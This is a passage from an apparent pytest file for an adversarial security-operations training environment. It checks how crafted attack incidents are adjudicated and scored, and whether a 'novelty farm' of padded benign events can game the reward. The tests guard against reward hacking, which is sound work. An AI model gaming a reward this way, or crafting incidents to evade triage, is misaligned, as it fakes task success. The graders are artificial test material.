             executable="\\Device\\HarddiskVolume3\\Windows\\System32\\whoami.exe")), code="UNKNOWN_PROGRAM"),
]


_UNREAD = {"UNMODELLED_VALUE", "UNKNOWN_PROGRAM", "UNKNOWN_FORM"}


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_red_team_case(case: Case):
    params = case.build()
    review = adjudicate(params)
    if case.code not in _UNREAD:  # a craft refused for what cannot be read has no verdict to check
        assert review.truth.action == case.verdict, (review.truth.deciding_rule_ids, review.plausibility.violations)
    assert review.outcome == case.unsound, (review.plausibility.violations, review.contested_by)
    if case.code:
        assert case.code in [v.code for v in review.plausibility.violations]
    right = score_incident(params, case.verdict, adjudication=review)
    wrong = score_incident(params, next(a for a in TRIAGE_ACTIONS if a != case.verdict), adjudication=review)
    assert right.reward == 0.0
    if case.unsound:
        assert wrong.reward == 0.0 and wrong.outcome == case.unsound and wrong.signature is None
    else:
        assert wrong.outcome == "evaded" and wrong.reward >= 1.0


def test_the_suite_covers_every_class():
    assert len(CASES) >= 40
    outcomes = {c.unsound for c in CASES}
    assert outcomes == {None, "implausible", "contested", "mislabelled"}


def _farm_craft(rng, seed: int) -> dict:
    """The novelty farm: one harmless Word-open padded with 0-16 harmless events, under one of the benign categories."""
    from opensoc.generator import DECOYS, Scene, _lay_out, _open_document, _start_time

    scene = Scene(rng, _start_time(rng))
    events = _open_document(scene)
    extras = [rng.choice(DECOYS[:8])(scene) for _ in range(rng.randint(0, 16))]
    events = _lay_out(scene, events, extras)[:64]
    for i, ev in enumerate(events):
        ev["log_id"] = f"F-{i}"
    category = rng.choice(["admin_remote_tooling", "software_update", "scheduled_backup", "password_typo",
                           "vulnerability_scan", "telemetry_heartbeat"])
    return {"craft_incident": {"category": category, "target_label": "dismiss", "events": events, "narrative": ""}}


@pytest.mark.slow  # more than a second
def test_novelty_farm_does_not_beat_honest_play():
    import random

    from opensoc.env import AttackerRun, OpenSOCEnv
    from opensoc.generator import TEMPLATES, generate_from_template
    from opensoc.rubric import MAX_NOVELTY_PER_RUN

    farm_env, rng = OpenSOCEnv(AttackerRun()), random.Random(0)
    farm = []
    for seed in range(400):
        farm_env.reset(mode="attacker_only", task="stage4_adversarial", seed=seed)
        farm.append(farm_env.step(_farm_craft(rng, seed)).reward)
    honest_env = OpenSOCEnv(AttackerRun())
    attacks = [t for t in TEMPLATES if t.expected_action != "dismiss"]
    honest = []
    for seed in range(400):
        honest_env.reset(mode="attacker_only", task="stage4_adversarial", seed=seed)
        craft = generate_from_template(attacks[seed % len(attacks)].name, seed, task="stage4_adversarial")
        honest.append(honest_env.step({"craft_incident": craft.model_dump(mode="json")}).reward)
    assert sum(farm) / len(farm) < sum(honest) / len(honest)
    assert len(farm_env.run.seen_signatures) <= MAX_NOVELTY_PER_RUN
    assert farm_env.run.outcomes["caught"] + farm_env.run.outcomes["contested"] + farm_env.run.outcomes["implausible"] >= 0.9 * len(farm)
